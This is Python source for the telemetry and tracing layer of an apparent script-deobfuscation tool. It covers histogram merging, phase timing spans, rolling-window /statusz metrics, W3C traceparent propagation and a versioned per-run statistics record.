            raise ValueError("histogram bucket bounds differ")
        for index, count in enumerate(other.counts):
            self.counts[index] += count
            their = other.exemplars[index]
            mine = self.exemplars[index]
            if their is not None and (mine is None or their[1] > mine[1]):
                self.exemplars[index] = their
        self.sum += other.sum
        self.count += other.count

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {
            "bounds": list(self.bounds),
            "counts": list(self.counts),
            "sum": round(self.sum, 6),
            "count": self.count,
        }
        exemplars = {
            str(index): {"trace_id": ex[0], "value": round(ex[1], 6)}
            for index, ex in enumerate(self.exemplars)
            if ex is not None
        }
        if exemplars:
            data["exemplars"] = exemplars
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "Histogram":
        hist = cls(buckets=tuple(float(b) for b in data["bounds"]))
        counts = [int(c) for c in data.get("counts", ())]
        if len(counts) == len(hist.counts):
            hist.counts = counts
        hist.sum = float(data.get("sum", 0.0))
        hist.count = int(data.get("count", 0))
        for key, payload in (data.get("exemplars") or {}).items():
            index = int(key)
            if 0 <= index < len(hist.exemplars):
                hist.exemplars[index] = (
                    str(payload["trace_id"]), float(payload["value"])
                )
        return hist
