"""Wall-clock spans: where a pipeline run spends its time.

A :class:`Span` is one timed region — a pipeline phase (``token``,
``ast``, ``multilayer``, ``rename``, ``reformat``), optionally tagged
with the fixpoint iteration it ran in.  The :class:`Tracer` collects
them with two ``perf_counter`` calls per region, cheap enough to leave
on by default (the phase-profile bench pins the overhead at ≤ 5%); a
disabled tracer records nothing and costs one attribute check.

The clock is injectable so tests can drive a deterministic fake.
"""

import time
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Callable, Dict, Iterator, List, Optional

# The pipeline's phase names, in execution order.  ``token``/``ast``/
# ``multilayer`` repeat once per fixpoint iteration; ``rename`` and
# ``reformat`` run once, after convergence.
PHASES = ("token", "ast", "multilayer", "rename", "reformat")


@dataclass
class Span:
    """One timed region of a run."""

    name: str
    seconds: float
    iteration: Optional[int] = None

    def to_dict(self) -> dict:
        data = {"name": self.name, "seconds": round(self.seconds, 6)}
        if self.iteration is not None:
            data["iteration"] = self.iteration
        return data

    @classmethod
    def from_dict(cls, data: dict) -> "Span":
        return cls(
            name=str(data["name"]),
            seconds=float(data["seconds"]),
            iteration=(
                int(data["iteration"]) if "iteration" in data else None
            ),
        )


class Tracer:
    """Collects :class:`Span` records for one pipeline run.

    ``enabled=False`` turns every ``span()`` into a no-op context, so
    callers never need two code paths.
    """

    def __init__(
        self,
        enabled: bool = True,
        clock: Callable[[], float] = time.perf_counter,
    ):
        self.enabled = enabled
        self.clock = clock
        self.spans: List[Span] = []

    @contextmanager
    def span(
        self, name: str, iteration: Optional[int] = None
    ) -> Iterator[None]:
        """Time the enclosed block and record it as *name*."""
        if not self.enabled:
            yield
            return
        started = self.clock()
        try:
            yield
        finally:
            self.spans.append(
                Span(
                    name=name,
                    seconds=self.clock() - started,
                    iteration=iteration,
                )
            )

    def phase_totals(self) -> Dict[str, float]:
        """Total seconds per span name, insertion-ordered."""
        totals: Dict[str, float] = {}
        for span in self.spans:
            totals[span.name] = totals.get(span.name, 0.0) + span.seconds
        return {name: round(value, 6) for name, value in totals.items()}
