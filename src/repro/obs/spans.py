"""Wall-clock spans: where a pipeline run spends its time.

A :class:`Span` is one timed region — a pipeline phase (``token``,
``ast``, ``multilayer``, ``rename``, ``reformat``), optionally tagged
with the fixpoint iteration it ran in.  The :class:`Tracer` collects
them with two ``perf_counter`` calls per region, cheap enough to leave
on by default (the phase-profile bench pins the overhead at ≤ 5%); a
disabled tracer records nothing and costs one attribute check.

The clock is injectable so tests can drive a deterministic fake.
"""

import time
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any, Callable, Dict, Iterator, List, Optional

# The canonical span-name constants.  Every surface that names a phase
# — Tracer spans, PipelineStats.phase_seconds, ``repro profile``
# output, batch summaries, and the ``/metrics`` phase labels — uses
# these, so the per-process profile and the service scrape agree.
SPAN_TOKEN = "token"
SPAN_AST = "ast"
SPAN_MULTILAYER = "multilayer"
SPAN_RENAME = "rename"
SPAN_REFORMAT = "reformat"
SPAN_TECHNIQUES = "techniques"

# The pipeline's phase names, in execution order.  ``token``/``ast``/
# ``multilayer`` repeat once per fixpoint iteration; ``rename`` and
# ``reformat`` run once, after convergence.
PHASES = (SPAN_TOKEN, SPAN_AST, SPAN_MULTILAYER, SPAN_RENAME, SPAN_REFORMAT)

def canonical_phase_name(name: str) -> str:
    """Assert *name* is already canonical and pass it through.

    The one-release alias fold (``tokens``/``token_parsing`` →
    ``token``, ``ast_recovery`` → ``ast``, ``multi_layer`` →
    ``multilayer``) is retired: every emitter writes the ``SPAN_*``
    constants now, so a non-canonical spelling on a read path is a
    producer bug to surface, not data to repair.  Unknown names other
    than the legacy spellings still pass through — readers must accept
    span names added by newer writers.
    """
    assert name not in (
        "tokens", "token_parsing", "ast_recovery", "multi_layer"
    ), f"legacy phase spelling {name!r} reached a read path"
    return name


@dataclass
class Span:
    """One timed region of a run."""

    name: str
    seconds: float
    iteration: Optional[int] = None

    def to_dict(self) -> dict:
        data = {"name": self.name, "seconds": round(self.seconds, 6)}
        if self.iteration is not None:
            data["iteration"] = self.iteration
        return data

    @classmethod
    def from_dict(cls, data: dict) -> "Span":
        return cls(
            name=str(data["name"]),
            seconds=float(data["seconds"]),
            iteration=(
                int(data["iteration"]) if "iteration" in data else None
            ),
        )


class Tracer:
    """Collects :class:`Span` records for one pipeline run.

    ``enabled=False`` turns every ``span()`` into a no-op context, so
    callers never need two code paths.

    When a :class:`~repro.obs.trace.SpanRecorder` is attached
    (``recorder=``), every phase span is *also* recorded as a child
    TraceSpan — this is how per-phase timings join the cross-process
    waterfall without the pipeline knowing about tracing.
    """

    def __init__(
        self,
        enabled: bool = True,
        clock: Callable[[], float] = time.perf_counter,
        recorder: Optional[Any] = None,
    ):
        self.enabled = enabled
        self.clock = clock
        self.recorder = recorder
        self.spans: List[Span] = []

    @contextmanager
    def span(
        self, name: str, iteration: Optional[int] = None
    ) -> Iterator[None]:
        """Time the enclosed block and record it as *name*."""
        if not self.enabled:
            yield
            return
        trace_span = None
        if self.recorder is not None:
            trace_span = self.recorder.begin(name, iteration=iteration)
        started = self.clock()
        status = "ok"
        try:
            yield
        except BaseException:
            status = "error"
            raise
        finally:
            self.spans.append(
                Span(
                    name=name,
                    seconds=self.clock() - started,
                    iteration=iteration,
                )
            )
            if trace_span is not None:
                self.recorder.end(trace_span, status=status)

    def phase_totals(self) -> Dict[str, float]:
        """Total seconds per span name, insertion-ordered."""
        totals: Dict[str, float] = {}
        for span in self.spans:
            totals[span.name] = totals.get(span.name, 0.0) + span.seconds
        return {name: round(value, 6) for name, value in totals.items()}
