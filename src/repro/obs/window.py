"""Rolling-window aggregation: what happened in the last 1/5/15 minutes.

The service's counters and histograms are cumulative since process
start — correct for Prometheus scrapes (rates are the scraper's job)
but useless for a human asking "is it slow *right now*".  This module
keeps a per-minute ring of counters plus a latency
:class:`~repro.obs.hist.Histogram` per minute, so ``/statusz`` can
report last-1m/5m/15m request rate, error rate, divergence rate,
cache-hit ratio, and latency p50/p95 — with the worst exemplar
trace_id per window, because the histograms carry their exemplars
through the merge.

Thread-safe (the service's handler threads and dispatcher both feed
it) and deterministic under an injected ``clock``.  Windows serialize
through plain dicts and :meth:`RollingWindow.merge` folds one
instance's window into another's minute-by-minute, which is how the
fleet router builds a fleet-wide ``/statusz``.
"""

import threading
import time
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

from repro.obs.hist import DEFAULT_LATENCY_BUCKETS, Histogram

# The windows /statusz reports, in minutes.  The ring keeps max+1
# minutes so the oldest reported window is never half-evicted.
WINDOW_MINUTES: Tuple[int, ...] = (1, 5, 15)

# Counter names the service feeds; free-form names also work, these
# are just the ones snapshot() derives ratios from.
WINDOW_COUNTERS = (
    "requests", "errors", "divergent", "verified", "cache_hits",
)


class _MinuteSlot:
    """One minute's worth of counters and latency observations."""

    __slots__ = ("minute", "counters", "hist")

    def __init__(self, minute: int, bounds: Sequence[float]):
        self.minute = minute
        self.counters: Dict[str, int] = {}
        self.hist = Histogram(bounds)


class RollingWindow:
    """A ring of per-minute slots, aggregated on demand.

    ``minutes`` bounds retention; ``clock`` is injectable so tests can
    drive rollover deterministically.
    """

    def __init__(
        self,
        minutes: int = max(WINDOW_MINUTES),
        clock: Callable[[], float] = time.time,
        bounds: Sequence[float] = DEFAULT_LATENCY_BUCKETS,
    ):
        self.minutes = max(1, int(minutes))
        self.clock = clock
        self.bounds: Tuple[float, ...] = tuple(sorted(bounds))
        self._slots: Dict[int, _MinuteSlot] = {}
        self._lock = threading.Lock()

    # -- feeding -----------------------------------------------------

    def _slot_locked(self, minute: int) -> _MinuteSlot:
        slot = self._slots.get(minute)
        if slot is None:
            slot = _MinuteSlot(minute, self.bounds)
            self._slots[minute] = slot
            self._prune_locked(minute)
        return slot

    def _prune_locked(self, now_minute: int) -> None:
        # Keep one extra minute beyond the largest window so the edge
        # minute of the 15m view is complete, not freshly truncated.
        horizon = now_minute - self.minutes
        for minute in [m for m in self._slots if m <= horizon]:
            del self._slots[minute]

    def incr(self, name: str, n: int = 1) -> None:
        minute = int(self.clock() // 60)
        with self._lock:
            slot = self._slot_locked(minute)
            slot.counters[name] = slot.counters.get(name, 0) + n

    def observe(self, seconds: float, trace_id: str = "") -> None:
        minute = int(self.clock() // 60)
        with self._lock:
            self._slot_locked(minute).hist.observe(seconds, trace_id)

    # -- reading -----------------------------------------------------

    def _window_locked(
        self, window_minutes: int, now_minute: int
    ) -> Tuple[Dict[str, int], Histogram]:
        counters: Dict[str, int] = {}
        hist = Histogram(self.bounds)
        since = now_minute - window_minutes
        for minute, slot in self._slots.items():
            if minute <= since or minute > now_minute:
                continue
            for name, value in slot.counters.items():
                counters[name] = counters.get(name, 0) + value
            hist.merge(slot.hist)
        return counters, hist

    def snapshot(
        self, windows: Sequence[int] = WINDOW_MINUTES
    ) -> Dict[str, Any]:
        """Aggregated view per window — the ``/statusz`` payload.

        Each ``"1m"``/``"5m"``/``"15m"`` entry reports the raw
        counters, derived rates/ratios, latency p50/p95, and the
        worst exemplar ``trace_id`` observed inside the window.
        """
        now_minute = int(self.clock() // 60)
        result: Dict[str, Any] = {}
        with self._lock:
            for window in windows:
                window = min(int(window), self.minutes)
                counters, hist = self._window_locked(window, now_minute)
                requests = counters.get("requests", 0)
                errors = counters.get("errors", 0)
                verified = counters.get("verified", 0)
                divergent = counters.get("divergent", 0)
                entry: Dict[str, Any] = {
                    "seconds": window * 60,
                    "requests": requests,
                    "errors": errors,
                    "divergent": divergent,
                    "cache_hits": counters.get("cache_hits", 0),
                    "request_rate": round(requests / (window * 60), 4),
                    "error_rate": round(
                        errors / requests if requests else 0.0, 4
                    ),
                    "divergence_rate": round(
                        divergent / verified if verified else 0.0, 4
                    ),
                    "cache_hit_ratio": round(
                        counters.get("cache_hits", 0) / requests
                        if requests else 0.0,
                        4,
                    ),
                    "latency_p50_ms": round(hist.quantile(0.5) * 1000, 3),
                    "latency_p95_ms": round(hist.quantile(0.95) * 1000, 3),
                    "observations": hist.count,
                }
                exemplar = hist.worst_exemplar()
                if exemplar is not None:
                    entry["exemplar"] = {
                        "trace_id": exemplar[0],
                        "value_ms": round(exemplar[1] * 1000, 3),
                    }
                result[f"{window}m"] = entry
        return result

    # -- serialization / fleet merge ---------------------------------

    def to_dict(self) -> Dict[str, Any]:
        with self._lock:
            return {
                "minutes": self.minutes,
                "bounds": list(self.bounds),
                "slots": [
                    {
                        "minute": slot.minute,
                        "counters": dict(slot.counters),
                        "hist": slot.hist.to_dict(),
                    }
                    for slot in sorted(
                        self._slots.values(), key=lambda s: s.minute
                    )
                ],
            }

    @classmethod
    def from_dict(
        cls,
        data: Dict[str, Any],
        clock: Callable[[], float] = time.time,
    ) -> "RollingWindow":
        window = cls(
            minutes=int(data.get("minutes", max(WINDOW_MINUTES))),
            clock=clock,
            bounds=tuple(
                float(b)
                for b in data.get("bounds", DEFAULT_LATENCY_BUCKETS)
            ),
        )
        for payload in data.get("slots", ()):
            minute = int(payload["minute"])
            slot = _MinuteSlot(minute, window.bounds)
            slot.counters = {
                str(k): int(v)
                for k, v in (payload.get("counters") or {}).items()
            }
            slot.hist = Histogram.from_dict(
                payload.get("hist") or {"bounds": list(window.bounds)}
            )
            window._slots[minute] = slot
        return window

    def merge(self, other: "RollingWindow") -> None:
        """Fold *other* into this window minute-by-minute.

        The fleet router merges instance windows this way; because the
        per-minute histograms merge exemplars too, the fleet-wide
        ``/statusz`` still points at the slowest single request.
        """
        with other._lock:
            their = [
                (slot.minute, dict(slot.counters), slot.hist)
                for slot in other._slots.values()
            ]
        with self._lock:
            for minute, counters, hist in their:
                slot = self._slot_locked(minute)
                for name, value in counters.items():
                    slot.counters[name] = slot.counters.get(name, 0) + value
                slot.hist.merge(hist)


def merge_window_dicts(
    payloads: Sequence[Optional[Dict[str, Any]]],
    clock: Callable[[], float] = time.time,
) -> "RollingWindow":
    """Merge serialized instance windows into one (fleet ``/statusz``).

    ``None`` entries (an instance that was down mid-scrape) are
    skipped, matching ``merge_snapshots``'s tolerance.
    """
    merged: Optional[RollingWindow] = None
    for payload in payloads:
        if not payload:
            continue
        window = RollingWindow.from_dict(payload, clock=clock)
        if merged is None:
            merged = window
        else:
            merged.merge(window)
    return merged if merged is not None else RollingWindow(clock=clock)
