"""Cross-process trace propagation: contexts, spans, and the recorder.

PR 2's :class:`~repro.obs.spans.Tracer` answers "where did *this
pipeline run* spend its time", but its spans die inside one process:
a service request that travels handler thread → cache → dispatcher →
worker process → pipeline phases cannot be explained end to end.  This
module adds the missing identity layer:

- :class:`TraceContext` — the ``(trace_id, span_id)`` pair minted at
  every entry point (``repro deobfuscate``, a service request, a batch
  task) and *propagated* across boundaries: it rides in the
  :class:`~repro.batch.task.Task` payload over the worker pipe and in
  the W3C ``traceparent`` HTTP header, so parent and worker spans share
  one trace_id.
- :class:`TraceSpan` — one timed region with identity: wall-clock start
  and end, a status (``ok`` / ``error`` / ``aborted``), and free-form
  attributes.  Unlike :class:`~repro.obs.spans.Span` (a duration only),
  a TraceSpan can be laid on a waterfall.
- :class:`SpanRecorder` — collects TraceSpans for one request/run, with
  a stack so nested ``span()`` blocks parent correctly.  Workers that
  die mid-sample flush their open spans with ``status="aborted"``
  (:func:`drain_active_spans`) so the parent can still export them.

Everything serializes through plain dicts (:meth:`TraceSpan.to_dict`)
because spans cross the same process boundary tasks do; the
OpenTelemetry-compatible JSONL rendering lives in
:mod:`repro.obs.export`.
"""

import secrets
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Iterator, List, Optional

# Bump whenever the serialized TraceSpan shape changes (the exported
# JSONL embeds it; ``repro trace --check`` validates it).
TRACE_SCHEMA_VERSION = 1

# Terminal statuses a span can carry.
SPAN_STATUSES = ("ok", "error", "aborted")


def new_trace_id() -> str:
    """A 128-bit lowercase-hex trace id (W3C trace-context sized)."""
    return secrets.token_hex(16)


def new_span_id() -> str:
    """A 64-bit lowercase-hex span id."""
    return secrets.token_hex(8)


@dataclass(frozen=True)
class TraceContext:
    """The propagated identity: which trace, and which span to open.

    ``span_id`` is the id the receiver's *root* span will take (see
    :class:`SpanRecorder` — a parent that minted the context therefore
    knows the remote root span's id without any communication), and
    ``parent_span_id`` is the span that root should attach to, so a
    worker's spans link back into the parent process's tree.
    """

    trace_id: str
    span_id: str
    parent_span_id: Optional[str] = None

    @classmethod
    def new(cls) -> "TraceContext":
        return cls(trace_id=new_trace_id(), span_id=new_span_id())

    def child(self) -> "TraceContext":
        """A context for work nested under this one: same trace, fresh
        root id, parented on this context's span."""
        return TraceContext(
            trace_id=self.trace_id,
            span_id=new_span_id(),
            parent_span_id=self.span_id,
        )

    # Tasks carry the dict form across the worker process boundary.

    def to_dict(self) -> Dict[str, str]:
        data = {"trace_id": self.trace_id, "span_id": self.span_id}
        if self.parent_span_id is not None:
            data["parent_span_id"] = self.parent_span_id
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, str]) -> "TraceContext":
        return cls(
            trace_id=str(data["trace_id"]),
            span_id=str(data["span_id"]),
            parent_span_id=(
                str(data["parent_span_id"])
                if data.get("parent_span_id") is not None
                else None
            ),
        )

    def to_traceparent(self) -> str:
        """The W3C ``traceparent`` header value for this context."""
        return f"00-{self.trace_id}-{self.span_id}-01"


def parse_traceparent(header: str) -> Optional[TraceContext]:
    """Parse a W3C ``traceparent`` header; None when malformed.

    Accepts ``version-traceid-spanid-flags`` with 32/16 hex-digit ids;
    an all-zero id is invalid per the spec.
    """
    parts = header.strip().split("-")
    if len(parts) != 4:
        return None
    _version, trace_id, span_id, _flags = parts
    if len(trace_id) != 32 or len(span_id) != 16:
        return None
    try:
        int(trace_id, 16)
        int(span_id, 16)
    except ValueError:
        return None
    if trace_id == "0" * 32 or span_id == "0" * 16:
        return None
    return TraceContext(trace_id=trace_id.lower(), span_id=span_id.lower())


@dataclass
class TraceSpan:
    """One timed, identified region of a trace."""

    name: str
    trace_id: str
    span_id: str
    parent_span_id: Optional[str] = None
    start_unix: float = 0.0
    end_unix: Optional[float] = None
    status: str = "ok"
    process: str = ""
    attributes: Dict[str, Any] = field(default_factory=dict)

    @property
    def seconds(self) -> float:
        if self.end_unix is None:
            return 0.0
        return max(0.0, self.end_unix - self.start_unix)

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {
            "name": self.name,
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "start_unix": round(self.start_unix, 6),
            "end_unix": (
                round(self.end_unix, 6) if self.end_unix is not None
                else None
            ),
            "status": self.status,
        }
        if self.parent_span_id is not None:
            data["parent_span_id"] = self.parent_span_id
        if self.process:
            data["process"] = self.process
        if self.attributes:
            data["attributes"] = dict(self.attributes)
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "TraceSpan":
        return cls(
            name=str(data["name"]),
            trace_id=str(data["trace_id"]),
            span_id=str(data["span_id"]),
            parent_span_id=data.get("parent_span_id"),
            start_unix=float(data.get("start_unix", 0.0)),
            end_unix=(
                float(data["end_unix"])
                if data.get("end_unix") is not None
                else None
            ),
            status=str(data.get("status", "ok")),
            process=str(data.get("process", "")),
            attributes=dict(data.get("attributes") or {}),
        )


class SpanRecorder:
    """Collects :class:`TraceSpan` records for one request or run.

    The recorder is rooted at a :class:`TraceContext`: the first
    ``span()`` takes the context's ``span_id`` (so a parent process
    that minted the context and put it in a task payload knows exactly
    which id the remote root span will carry), and nested ``span()``
    blocks parent on the enclosing one via an explicit stack.

    Single-threaded by design — one recorder per request/run, like the
    phase :class:`~repro.obs.spans.Tracer` it complements.  ``clock``
    and ``id_factory`` are injectable so tests (and the golden trace
    file) are deterministic.
    """

    def __init__(
        self,
        context: Optional[TraceContext] = None,
        process: str = "",
        clock: Callable[[], float] = time.time,
        id_factory: Callable[[], str] = new_span_id,
    ):
        self.context = context if context is not None else TraceContext.new()
        self.process = process
        self.clock = clock
        self.id_factory = id_factory
        self.spans: List[TraceSpan] = []
        self._stack: List[TraceSpan] = []
        self._root_id_used = False

    @property
    def trace_id(self) -> str:
        return self.context.trace_id

    def current_context(self) -> TraceContext:
        """The context child work should inherit *right now*: the open
        span if any, else the recorder's root context."""
        if self._stack:
            return TraceContext(
                trace_id=self.trace_id, span_id=self._stack[-1].span_id
            )
        return self.context

    def begin(self, name: str, **attributes: Any) -> TraceSpan:
        """Open a span (child of the innermost open span, if any)."""
        if self._stack:
            parent_id: Optional[str] = self._stack[-1].span_id
            span_id = self.id_factory()
        elif not self._root_id_used:
            # The root span takes the id the context promised, and
            # attaches to whatever the minting process had open.
            parent_id = self.context.parent_span_id
            span_id = self.context.span_id
            self._root_id_used = True
        else:
            # A second top-level span: sibling of the root span.
            parent_id = self.context.parent_span_id
            span_id = self.id_factory()
        span = TraceSpan(
            name=name,
            trace_id=self.trace_id,
            span_id=span_id,
            parent_span_id=parent_id,
            start_unix=self.clock(),
            process=self.process,
            attributes={k: v for k, v in attributes.items() if v is not None},
        )
        self.spans.append(span)
        self._stack.append(span)
        return span

    def end(self, span: TraceSpan, status: str = "ok") -> None:
        """Close *span* (and anything mistakenly left open inside it)."""
        if not any(open_span is span for open_span in self._stack):
            if span.end_unix is None:
                span.end_unix = self.clock()
                span.status = status
            return
        while self._stack:
            top = self._stack.pop()
            top.end_unix = self.clock()
            top.status = status
            if top is span:
                return

    @contextmanager
    def span(self, name: str, **attributes: Any) -> Iterator[TraceSpan]:
        """Time the enclosed block as a child span; ``status="error"``
        when the block raises."""
        opened = self.begin(name, **attributes)
        try:
            yield opened
        except BaseException:
            self.end(opened, status="error")
            raise
        else:
            self.end(opened, status="ok")

    def flush_open(self, status: str = "aborted") -> int:
        """Close every still-open span with *status*; return how many.

        This is the dying-worker path: a worker that raises (or is
        about to be killed) closes its partial spans as ``aborted`` so
        the parent can still export a truthful waterfall.
        """
        closed = 0
        now = self.clock()
        while self._stack:
            span = self._stack.pop()
            span.end_unix = now
            span.status = status
            closed += 1
        return closed


# -- the active recorder ------------------------------------------------------
#
# Worker processes run one sample at a time, but the code that builds
# an *error* record for a raising worker (repro.batch.task
# .exception_record) has no handle on the recorder run_one created.
# This tiny registry bridges that gap: run_one activates its recorder,
# the error path drains it.  One slot, not a stack — a worker process
# never nests samples.

_ACTIVE: Optional[SpanRecorder] = None


def activate_recorder(recorder: SpanRecorder) -> None:
    global _ACTIVE
    _ACTIVE = recorder


def deactivate_recorder() -> None:
    global _ACTIVE
    _ACTIVE = None


def active_recorder() -> Optional[SpanRecorder]:
    return _ACTIVE


def drain_active_spans(status: str = "aborted") -> List[Dict[str, Any]]:
    """Flush and serialize the active recorder's spans, deactivating it.

    Returns ``[]`` when no recorder is active — callers can
    unconditionally attach the result to their error payloads.
    """
    global _ACTIVE
    recorder = _ACTIVE
    _ACTIVE = None
    if recorder is None:
        return []
    recorder.flush_open(status=status)
    return [span.to_dict() for span in recorder.spans]
