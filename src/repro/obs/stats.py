"""The typed, versioned per-run telemetry record: :class:`PipelineStats`.

This replaces the free-form ``stats: Dict[str, int]`` the pipeline used
to return.  Every counter the phases emit has a declared field, the
serialized form is pinned by ``STATS_SCHEMA_VERSION`` (and a golden-file
test), and ``from_dict(to_dict())`` round-trips losslessly — which is
what lets ``repro batch`` embed the stats in JSONL records and
``repro.batch.summary`` aggregate per-phase percentiles over a corpus.

The one-release dict-compat shim that kept pre-redesign
``stats["pieces_recovered"]`` callers working has been retired; use
the attributes, or ``to_dict()`` for a mapping.  Subscripting raises
a ``KeyError`` that names the replacement.
"""

from dataclasses import dataclass, field, fields
from typing import Any, Dict, List, Optional, Tuple

from repro.obs.spans import Span, canonical_phase_name

# Bump whenever the serialized shape of PipelineStats changes.
# Version 2 adds the ``verify`` verdict-count section; version 3 adds
# the ``techniques`` tag section (Table I telemetry); version 4 adds
# the hot-path counters (``subtree_memo_hits`` /
# ``subtree_memo_misses`` from repro.runtime.memo, ``intern_hits`` /
# ``intern_misses`` from repro.pslang.interning); version 5 adds the
# sandbox-policy section (``policy`` preset name, per-capability
# ``policy_denials``, summed ``budget_spent``) from repro.policy;
# version 6 adds the ``language`` front-end id (repro.frontend).
STATS_SCHEMA_VERSION = 6

# Why a recoverable piece did / did not get replaced (Section III-B2
# plus the failure taxonomy of Section V-C).
RECOVERY_REASONS = (
    "recovered",           # executed; result had a string form
    "blocked",             # mentions a blocklisted command: never executed
    "unsupported",         # evaluation failed (outside the sandbox subset)
    "step_limit",          # execution budget exhausted mid-piece
    "not_stringifiable",   # executed fine, but no faithful literal exists
)

# What kind of invoker the multi-layer phase unwrapped.
UNWRAP_KINDS = (
    "iex",                 # Invoke-Expression / iex / &'iex' / .('iex')
    "encoded_command",     # powershell -EncodedCommand <base64>
    "command",             # powershell -Command / bare inline script
)


def _zero_reasons() -> Dict[str, int]:
    return {reason: 0 for reason in RECOVERY_REASONS}


def _zero_kinds() -> Dict[str, int]:
    return {kind: 0 for kind in UNWRAP_KINDS}


@dataclass
class PipelineStats:
    """Everything one :meth:`Deobfuscator.deobfuscate` run measured.

    Counters
    --------
    tokens_rewritten
        Token-phase rewrites applied (ticks removed, aliases expanded,
        casing canonicalized).
    pieces_recovered
        Recoverable AST pieces whose replacement actually changed the
        script.  ``recovery_outcomes["recovered"]`` additionally counts
        pieces that evaluated to their own text (already-clean pieces).
    variables_traced / variables_substituted
        Algorithm 1 symbol-table writes and use-site replacements.
    trace_hits / trace_misses
        At substitutable use sites: how often the symbol table had a
        usable value vs not — the paper's variable-tracing efficacy.
    recovery_outcomes
        Per-piece outcome counts keyed by :data:`RECOVERY_REASONS`.
    recovery_cache_hits
        Pieces answered from the state-independent memo instead of the
        sandbox.
    subtree_memo_hits / subtree_memo_misses
        Structure-hash memo lookups (:mod:`repro.runtime.memo`) that
        replayed a stored piece outcome vs ran the sandbox.  Both zero
        when the run had ``subtree_memo=False``.
    intern_hits / intern_misses
        This run's delta of the process-wide token-string intern table
        (:mod:`repro.pslang.interning`): strings reused vs newly seen.
    evaluator_steps
        Total sandbox interpreter steps across every piece and
        assignment evaluation — the run's execution-cost denominator.
    unwrap_kinds
        Multi-layer unwraps by invoker kind (:data:`UNWRAP_KINDS`).
    verify
        Semantic-equivalence verdict counts (``equivalent`` /
        ``divergent`` / ``inconclusive``) when the run was
        differentially verified (:mod:`repro.verify`); empty — and
        omitted from ``to_dict()`` — otherwise.  A single run carries
        one count of 1; batch/service aggregation sums them.
    techniques
        Obfuscation-technique tags this run recovered
        (:mod:`repro.obs.techniques`): detector names plus ``layer_*``
        unwrap tags, value 1 each for a single run.  Summing over a
        corpus via :meth:`merge` yields the Table I prevalence counts.
        Empty — and omitted from ``to_dict()`` — when tagging was off.
    policy / policy_denials / budget_spent
        The sandbox-policy section (:mod:`repro.policy`): the preset
        name the run executed under, per-capability counts of refused
        checks (only the capabilities that denied; empty — and omitted
        — on a clean run), and the summed execution-budget consumption
        (steps/loop ticks/output chars) across every evaluation.
        ``policy`` is ``"mixed"`` after merging runs with different
        policies, and ``""`` on legacy records that predate policies.
    language
        The front-end id (:mod:`repro.frontend`) the run parsed and
        recovered with (``powershell``, ``js``); ``"mixed"`` after
        merging runs of different languages, ``""`` on legacy records.

    Timing
    ------
    phase_seconds
        Total wall-clock per phase name (summed over iterations).
    spans
        The raw per-phase, per-iteration :class:`Span` list; empty when
        the pipeline ran with ``collect_spans=False``.
    """

    tokens_rewritten: int = 0
    pieces_recovered: int = 0
    variables_traced: int = 0
    variables_substituted: int = 0
    trace_hits: int = 0
    trace_misses: int = 0
    evaluator_steps: int = 0
    recovery_cache_hits: int = 0
    subtree_memo_hits: int = 0
    subtree_memo_misses: int = 0
    intern_hits: int = 0
    intern_misses: int = 0
    recovery_outcomes: Dict[str, int] = field(default_factory=_zero_reasons)
    unwrap_kinds: Dict[str, int] = field(default_factory=_zero_kinds)
    verify: Dict[str, int] = field(default_factory=dict)
    techniques: Dict[str, int] = field(default_factory=dict)
    policy: str = ""
    language: str = ""
    policy_denials: Dict[str, int] = field(default_factory=dict)
    budget_spent: Dict[str, int] = field(default_factory=dict)
    phase_seconds: Dict[str, float] = field(default_factory=dict)
    spans: List[Span] = field(default_factory=list)
    schema_version: int = STATS_SCHEMA_VERSION

    # -- serialization ------------------------------------------------------

    def to_dict(self) -> Dict[str, Any]:
        """JSON-ready dict; pinned by the schema golden test.

        The ``verify`` section appears only on verified runs, so the
        overwhelmingly common unverified record pays no size for it.
        """
        data: Dict[str, Any] = {
            "schema_version": self.schema_version,
            "tokens_rewritten": self.tokens_rewritten,
            "pieces_recovered": self.pieces_recovered,
            "variables_traced": self.variables_traced,
            "variables_substituted": self.variables_substituted,
            "trace_hits": self.trace_hits,
            "trace_misses": self.trace_misses,
            "evaluator_steps": self.evaluator_steps,
            "recovery_cache_hits": self.recovery_cache_hits,
            "subtree_memo_hits": self.subtree_memo_hits,
            "subtree_memo_misses": self.subtree_memo_misses,
            "intern_hits": self.intern_hits,
            "intern_misses": self.intern_misses,
            "recovery_outcomes": dict(self.recovery_outcomes),
            "unwrap_kinds": dict(self.unwrap_kinds),
            "phase_seconds": dict(self.phase_seconds),
            "spans": [span.to_dict() for span in self.spans],
        }
        if self.verify:
            data["verify"] = dict(self.verify)
        if self.techniques:
            data["techniques"] = dict(self.techniques)
        if self.policy:
            data["policy"] = self.policy
        if self.language:
            data["language"] = self.language
        if self.policy_denials:
            data["policy_denials"] = dict(self.policy_denials)
        if self.budget_spent:
            data["budget_spent"] = dict(self.budget_spent)
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "PipelineStats":
        """Rebuild from :meth:`to_dict` output.

        Tolerant of older records: missing fields default to zero (a
        pre-telemetry record's three counters still load), unknown keys
        are ignored so a newer writer does not break an older reader,
        and legacy phase spellings (``tokens``/``token_parsing``) are
        folded onto the canonical names so aggregation never splits one
        phase across two keys.
        """
        stats = cls()
        for item in fields(cls):
            if item.name not in data:
                continue
            value = data[item.name]
            if item.name == "spans":
                spans = [Span.from_dict(s) for s in value]
                for span in spans:
                    span.name = canonical_phase_name(span.name)
                stats.spans = spans
            elif item.name in (
                "recovery_outcomes", "unwrap_kinds", "verify",
                "techniques", "policy_denials", "budget_spent",
            ):
                merged = getattr(stats, item.name)
                merged.update({str(k): int(v) for k, v in value.items()})
            elif item.name in ("policy", "language"):
                setattr(stats, item.name, str(value))
            elif item.name == "phase_seconds":
                stats.phase_seconds = {}
                for key, seconds in value.items():
                    phase = canonical_phase_name(str(key))
                    stats.phase_seconds[phase] = round(
                        stats.phase_seconds.get(phase, 0.0) + float(seconds),
                        6,
                    )
            else:
                setattr(stats, item.name, int(value))
